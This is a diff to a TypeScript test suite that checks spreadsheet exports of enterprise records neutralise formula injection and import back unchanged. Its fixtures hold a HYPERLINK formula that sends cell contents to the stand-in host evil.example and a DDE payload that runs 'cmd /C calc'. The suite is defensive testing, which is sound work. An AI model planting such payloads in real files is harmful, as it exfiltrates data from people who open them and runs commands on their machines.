@@ -6,7 +6,8 @@ import { binary } from '../setup/binary';
 import { createTestApp, TestApp } from '../setup/test-app';
 
 const EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击")';
-const EVIL_CONTACT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const EVIL_CONTACT = '=HYPERLINK("http://evil.example/?c="&B2,"联系人")';
+const EVIL_ADDRESS = '@SUM(1+1)*cmd|\' /C calc\'!A0';
 const PHONE = '+86 574 8765 4321';
 
 /** A valid credit code of digits only, which Excel shows as 9.13303E+17 when it opens a CSV. */
@@ -34,9 +35,13 @@ describe('exports Excel cannot corrupt, and imports that explain what Excel did'
     const created = await t.http
       .post('/api/v1/enterprises')
       .set(staff)
-      .send({ creditCode: code, name: EVIL_NAME, districtCode: '330211', industryCode: '3411', contactPerson: EVIL_CONTACT, contactPhone: PHONE })
+      .send({ creditCode: code, name: EVIL_NAME, districtCode: '330211', industryCode: '3411', contactPhone: PHONE, address: EVIL_ADDRESS })
       .expect(201);
     id = created.body.id;
+    // A liaison's contact change applies without review: the way such a value gets in unseen.
+    const liaison = await t.as('LIAISON', { enterpriseIds: [id] });
+    const applied = await t.http.post(`/api/v1/enterprises/${id}/change-requests`).set(liaison).send({ version: created.body.version, profile: { contactPerson: EVIL_CONTACT } }).expect(201);
+    expect(applied.body.status).toBe('APPLIED');
     await t.http.post('/api/v1/designations').set(staff).send({ enterpriseId: id, type: 'LITTLE_GIANT', level: 'NATIONAL', status: 'RECOGNISED', recognisedOn: '2022-07-20' }).expect(201);
   });
   afterAll(() => t.close());
@@ -47,12 +52,12 @@ describe('exports Excel cannot corrupt, and imports that explain what Excel did'
     const rows: Record<string, string>[] = parse(res.body.toString('utf8'), { bom: true, columns: true });
     const row = rows.find((r) => r['企业名称'].includes('HYPERLINK'))!;
     // The apostrophe keeps each cell text: Excel neither runs it nor turns the code into 9.13303E+17.
-    expect(row).toMatchObject({ 统一社会信用代码: `'${code}`, 企业名称: `'${EVIL_NAME}`, 联系人: `'${EVIL_CONTACT}`, 联系电话: `'${PHONE}` });
+    expect(row).toMatchObject({ 统一社会信用代码: `'${code}`, 企业名称: `'${EVIL_NAME}`, 联系人: `'${EVIL_CONTACT}`, 联系电话: `'${PHONE}`, 地址: `'${EVIL_ADDRESS}` });
 
     const back = await importFile('enterprises', res.body, 'export.csv', false).expect(200);
     expect(back.body.counts).toEqual({ created: 0, updated: 0, unchanged: rows.length, rejected: 0 });
     const stored = (await t.http.get(`/api/v1/enterprises/${id}`).set(staff).expect(200)).body;
-    expect(stored).toMatchObject({ creditCode: code, name: EVIL_NAME, contactPerson: EVIL_CONTACT, contactPhone: PHONE });
+    expect(stored).toMatchObject({ creditCode: code, name: EVIL_NAME, contactPerson: EVIL_CONTACT, contactPhone: PHONE, address: EVIL_ADDRESS });
   });
 
   it('marks formulas in the XLSX as text, keeps the code as it is, and imports the file back unchanged', async () => {
@@ -60,6 +65,10 @@ describe('exports Excel cannot corrupt, and imports that explain what Excel did'
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(res.body as never);
     const sheet = workbook.worksheets[0];
+    expect(sheet.getCell('A1').value).toBe('统一社会信用代码');
+    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
+    expect(sheet.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToWidth: 1 });
+    expect(sheet.getColumn(1).width).toBe(30);
     const row = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(1).value === code)!;
     expect(row.getCell(2).value).toBe(`'${EVIL_NAME}`);
     expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
